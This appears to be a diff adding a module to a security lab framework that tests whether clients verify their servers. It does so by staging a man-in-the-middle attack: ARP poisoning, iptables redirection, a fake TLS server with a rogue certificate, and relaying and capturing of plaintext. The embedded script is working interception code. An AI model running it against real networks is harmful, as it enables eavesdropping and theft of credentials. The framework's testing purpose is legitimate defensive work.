@@ -1,0 +1,253 @@
+"""Being the server for a client: from a worker's root, which may redirect what passes it.
+
+ARP brings the packets; a rule of the firewall turns those for one server to a process of the
+attacker's, with a certificate of the attacker's. What is plaintext is passed on to the true
+server. The rules and the process are gone afterwards.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+from collections.abc import Callable, Sequence
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING, Any
+
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.lab.pki import Authority
+from labkit.model import Channel, View
+from labkit.techniques._base import ROOT_ON_WORKER, Prediction, Technique
+from labkit.techniques._capture import POISON, believed, forget, place_of
+from labkit.techniques._reach import inside, run
+from labkit.techniques._verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["ANSWER", "Trap", "stand", "technique"]
+
+#: What the false server says to whoever asks it over TLS.
+ANSWER = b"labkit: this is not what you asked for\n"
+FAKE = """
+import base64, json, os, re, select, signal, socket, ssl, struct, subprocess, sys, tempfile
+import threading, time
+job = json.load(sys.stdin)
+signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+context.set_alpn_protocols(["http/1.1"])
+with tempfile.NamedTemporaryFile("w", dir="/dev/shm") as file:
+    file.write(job["pem"])
+    file.flush()
+    context.load_cert_chain(file.name)
+seen, enough = [], threading.Event()
+def relay(client):
+    port, address = struct.unpack("!2xH4s8x", client.getsockopt(socket.SOL_IP, 80, 16))
+    said = b""
+    with socket.create_connection((socket.inet_ntoa(address), port), timeout=5) as server:
+        while not stop.is_set():
+            ready = select.select([client, server], [], [], 0.2)[0]
+            for one in ready:
+                data = one.recv(65536)
+                if not data:
+                    return
+                (server if one is client else client).sendall(data)
+                if one is client:
+                    said = (said + data)[-200000:]
+                    if job["wanted"].encode() in said:
+                        seen.append({"plaintext": base64.b64encode(said[-2000:]).decode()})
+                        enough.set()
+def serve(connection):
+    connection.settimeout(5)
+    start = connection.recv(2, socket.MSG_PEEK)
+    if start != b"\\x16\\x03":
+        return relay(connection)
+    try:
+        with context.wrap_socket(connection, server_side=True) as wrapped:
+            asked = wrapped.recv(4096)
+            if not asked:
+                return
+            seen.append({"tls": base64.b64encode(asked).decode()})
+            answer = job["answer"].encode()
+            head = b"HTTP/1.1 200 OK\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n"
+            wrapped.sendall(head % len(answer) + answer)
+    except ssl.SSLError as error:
+        found = re.search("ALERT_([A-Z_]+)", str(error.reason))
+        if not found:
+            return
+        seen.append({"alert": found[1].lower().replace("_", " ")})
+    enough.set()
+def quiet(connection):
+    try:
+        with connection:
+            serve(connection)
+    except OSError:
+        pass
+def accept():
+    while True:
+        try:
+            connection = listener.accept()[0]
+        except OSError:
+            return
+        threading.Thread(target=quiet, args=(connection,), daemon=True).start()
+stop = threading.Event()
+listener = socket.create_server(("0.0.0.0", 0))
+threading.Thread(target=accept, daemon=True).start()
+own = str(listener.getsockname()[1])
+rules = [
+    ["-p", "tcp", "-s", job["client"], "-d", server, "--dport", str(job["port"]), "-m", "comment",
+     "--comment", "labkit-middle", "-j", "REDIRECT", "--to-ports", own]
+    for server in job["servers"]
+]
+def nat(action):
+    for rule in rules:
+        subprocess.run(["iptables", "-w", "5", "-t", "nat", action, "PREROUTING", *rule])
+pairs = [word for server in job["servers"] for word in (job["client"], server)]
+poison = None
+try:
+    nat("-I")
+    poison = subprocess.Popen([sys.executable, "-c", job["poison"], *pairs])
+    enough.wait(job["seconds"])
+    time.sleep(0.2)
+finally:
+    if poison:
+        poison.kill()
+        poison.wait()
+    nat("-D")
+    stop.set()
+    listener.close()
+print(json.dumps(seen))
+"""
+#: Seconds that the false server stays.
+STAY = 20
+
+
+@dataclass(frozen=True, slots=True)
+class Trap:
+    """One client that is to take the attacker for its server.
+
+    Parameters
+    ----------
+    about : str
+        The ids of the channels, as a shell's pattern.
+    call : callable
+        Makes the client call its server, and undoes that.
+    wanted : str
+        What stands in plaintext that shows that it was the client's.
+    read : str
+        What the attacker then has read.
+    well : callable
+        Shows that the true server is reached when nobody is in the way, and says how.
+    """
+
+    about: str
+    call: Callable[[Lab], Any] = field(repr=False)
+    wanted: str
+    read: str
+    well: Callable[[Lab], str] = field(repr=False)
+
+
+def predict(view: View, trap: Trap) -> Prediction:
+    """Say what the model says: whether the client verifies its server."""
+    found = view.channels(trap.about)
+    if not found:
+        return Prediction(False, tuple(str(c.encryption) for c in view.closed(trap.about)))
+    claims = [channel.server_authentication for channel in found]
+    gullible = [claim for claim in claims if claim.value in ("none", "unverified")]
+    return Prediction(bool(gullible), (str((gullible or claims)[0]),))
+
+
+def stand(lab: Lab, foothold: str, name: str, trap: Trap) -> Verdict:
+    """Stand between a client and its server, with a stranger's certificate.
+
+    Raises
+    ------
+    ProbeTimeout
+        The client did not call.
+    ProbeError
+        What it did says nothing.
+    """
+    found = View(lab.environment).channels(trap.about)
+    seen, said = _meet(lab, foothold, found, trap)
+    channel = found[0]
+    asked = [f"{channel.client} was led to the attacker's server"]
+    for entry in seen:
+        if "plaintext" in entry:
+            reason = "plaintext: nothing says who the server is"
+            return _taken(lab, name, foothold, reason, [*asked, f"read: {trap.read}"])
+        if "tls" in entry:
+            line = base64.b64decode(entry["tls"]).split(b"\r\n")[0].decode(errors="replace")
+            if not re.match(r"[A-Z]+ /\S* HTTP/", line):
+                raise ProbeError(f"{name}: the client sent no request", evidence=[line[:80]])
+            more = [f"read over TLS: {trap.read}"]
+            if said is not None and ANSWER in said:
+                more.append("the attacker's answer was believed and passed on")
+            reason = "TLS, but the client does not look whose certificate it is"
+            return _taken(lab, name, foothold, reason, [*asked, *more])
+    alert = next((entry["alert"] for entry in seen if "alert" in entry), "")
+    if not alert:
+        raise ProbeTimeout(f"{name}: {channel.client} did not call within {STAY} s")
+    well = trap.well(lab)
+    reason = f"TLS alert: {alert}"
+    return Verdict(name, lab.mode, foothold, False, reason, tuple(asked), well)
+
+
+def _taken(lab: Lab, name: str, foothold: str, reason: str, evidence: Sequence[str]) -> Verdict:
+    return Verdict(name, lab.mode, foothold, True, reason, tuple(evidence))
+
+
+def _meet(
+    lab: Lab, foothold: str, found: Sequence[Channel], trap: Trap
+) -> tuple[list[dict[str, str]], bytes | None]:
+    """Put the false server in the way, make the client call, and say what came."""
+    here = place_of(lab, foothold)
+    client = found[0].client.rpartition("@")[2]
+    servers = sorted({channel.server.rpartition("@")[2] for channel in found})
+    leaf = Authority.create("labkit-stranger-ca").issue(
+        servers[0], hosts=[*servers, "localhost"], usages=["server"]
+    )
+    job = {
+        "pem": f"{leaf.certificate.decode()}\n{leaf.key.decode()}",
+        "client": inside(lab, client),
+        "servers": [inside(lab, server) for server in servers],
+        "port": found[0].port,
+        "wanted": trap.wanted,
+        "answer": ANSWER.decode(),
+        "poison": POISON,
+        "seconds": STAY,
+    }
+    told = [(client, server) for server in servers]
+    argv = ["python3", "-c", FAKE]
+    with ThreadPoolExecutor(max_workers=1) as pool:
+        stdin = json.dumps(job).encode()
+        future = pool.submit(run, lab, here, argv, stdin=stdin, timeout=STAY + 20, check=True)
+        try:
+            believed(lab, here, told)
+            said = trap.call(lab)
+            output = future.result()
+        finally:
+            future.exception()
+            forget(lab, told)
+    seen: list[dict[str, str]] = json.loads(output.stdout)
+    return seen, said
+
+
+def technique(
+    name: str, title: str, trap: Trap, *, stride: tuple[str, ...], sources: tuple[str, ...]
+) -> Technique:
+    """Make the technique that stands in a client's way."""
+    return Technique(
+        name=name,
+        title=title,
+        footholds=(ROOT_ON_WORKER,),
+        grants=(),
+        about=trap.about,
+        properties=("server_authentication",),
+        attack=("T1557.002",),
+        stride=stride,
+        cwe=("CWE-295", "CWE-300"),
+        sources=("https://attack.mitre.org/techniques/T1557/002/", *sources),
+        predict=lambda view, foothold: predict(view, trap),
+        execute=lambda lab, foothold: stand(lab, foothold, name, trap),
+    )
